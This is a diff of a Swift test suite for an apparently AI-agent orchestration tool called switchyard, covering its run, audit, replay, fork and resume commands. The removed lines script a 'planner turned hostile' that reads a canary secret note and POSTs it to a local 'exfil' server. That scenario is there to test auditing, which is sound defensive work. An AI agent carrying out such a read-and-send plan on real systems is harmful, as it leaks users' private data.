@@ -4,18 +4,8 @@ import Switchyard
 import SwitchyardTesting
 import Testing
 
-func planCall(_ plan: JSONValue, id: Int) -> ScriptedReply { .openAIPlan(plan, id: id) }
-func answer(_ text: String) -> ScriptedReply { .openAIText(text) }
-
 @Suite struct RunCommandTests {
     let binary = BuiltProducts.executable("switchyard")
-
-    func workspace(cloud: ScriptedModelServer, local: ScriptedModelServer) throws -> TemporaryDirectory {
-        try notesWorkspace(
-            "run", secret: "CANARY-4242 the acquisition closes in May.", cloud: cloud, local: local,
-            tools: ["read: {}", #"http_fetch: { allow_hosts: ["127.0.0.1"], allow_addresses: ["127.0.0.1"] }"#],
-            rest: "routing:\n  rules:\n    - { role: reasoning, use: cloud }\nbudgets: { steps: 10 }")
-    }
 
     /// The command line of a run and of what reads it: `run --json`, `audit` (its JSON and its
     /// verdict), `trace show` (the outline, the timeline), `replay` and its what-if and fork,
@@ -25,28 +15,9 @@ func answer(_ text: String) -> ScriptedReply { .openAIText(text) }
         let local = try ScriptedModelServer()
         let exfil = try LoopbackHTTPServer { _, writer in writer.respond(status: 200, text: "thanks") }
         defer { exfil.stop() }
-        let directory = try workspace(cloud: cloud, local: local)
-        cloud.enqueue(
-            "/v1/chat/completions",
-            planCall(["steps": [["kind": "tool", "tool": "read", "arguments": ["path": "notes/secret.txt"]]]], id: 1))
-        // A planner turned hostile: post the private note to a server it is allowed to reach.
-        cloud.enqueue(
-            "/v1/chat/completions",
-            planCall(
-                [
-                    "steps": [
-                        [
-                            "kind": "tool", "tool": "http_fetch",
-                            "arguments": [
-                                "url": .string("http://127.0.0.1:\(exfil.port)/collect"), "method": "POST",
-                                "body": "$2",
-                            ],
-                        ],
-                        ["kind": "model", "instruction": "When does it close?", "inputs": ["$2"], "role": "reasoning"],
-                    ]
-                ], id: 2))
-        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$4"], id: 3))
-        local.enqueue("/v1/chat/completions", answer("It closes in May."))
+        let directory = try TemporaryDirectory("run")
+        try NotesWorkspace.writeReachingLoopback(into: directory, cloud: cloud, local: local)
+        NotesWorkspace.scriptHostilePlanner(cloud: cloud, local: local, port: exfil.port)
 
         let environment = cliEnvironment(home: directory.path, ["OPENAI_API_KEY": "sk-test-cli"])
         let result = try await runProgram(
@@ -104,8 +75,8 @@ func answer(_ text: String) -> ScriptedReply { .openAIText(text) }
         #expect(divergence?["step"] == "plan-1")
         #expect(divergence?["path"]?.stringValue?.hasPrefix("request.messages[0].content") == true)
         // A fork from $4: its answer, and the new run's id.
-        local.enqueue("/v1/chat/completions", answer("In May."))
-        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$4"], id: 4))
+        local.enqueue("/v1/chat/completions", .openAIText("In May."))
+        cloud.enqueue("/v1/chat/completions", .openAIPlan(["answer": "$4"], id: 4))
         let fork = try await runProgram(
             binary, ["replay", run, "--live-from", "$4", "--json"], environment: environment)
         #expect(fork.status == 0, "\(fork.standardError)")
@@ -150,10 +121,10 @@ func answer(_ text: String) -> ScriptedReply { .openAIText(text) }
         let url = "http://127.0.0.1:\(site.port)/schedule"
         cloud.enqueue(
             "/v1/chat/completions",
-            planCall(["steps": [["kind": "tool", "tool": "http_fetch", "arguments": ["url": .string(url)]]]], id: 1))
+            .openAIPlan(["steps": [["kind": "tool", "tool": "http_fetch", "arguments": ["url": .string(url)]]]], id: 1))
         cloud.enqueue(
             "/v1/chat/completions",
-            planCall(["steps": [["kind": "model", "instruction": "When is the release?", "inputs": ["$2"]]]], id: 2))
+            .openAIPlan(["steps": [["kind": "model", "instruction": "When is the release?", "inputs": ["$2"]]]], id: 2))
         // The model step's answer never comes: the run is killed while it waits.
         local.enqueue("/v1/chat/completions", ScriptedReply(parts: ["", ""], pause: .seconds(60)))
         let environment = cliEnvironment(home: directory.path, ["OPENAI_API_KEY": "sk-test-cli"])
@@ -174,8 +145,8 @@ func answer(_ text: String) -> ScriptedReply { .openAIText(text) }
         #expect(entry["status"] == "interrupted")
         let run = try #require(entry["id"]?.stringValue)
 
-        local.enqueue("/v1/chat/completions", answer("On Thursday."))
-        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$3"], id: 3))
+        local.enqueue("/v1/chat/completions", .openAIText("On Thursday."))
+        cloud.enqueue("/v1/chat/completions", .openAIPlan(["answer": "$3"], id: 3))
         let resumed = try await runProgram(binary, ["resume", run], environment: environment)
         #expect(resumed.status == 0, "\(resumed.standardError)")
         #expect(resumed.standardOutput.hasPrefix("On Thursday."))
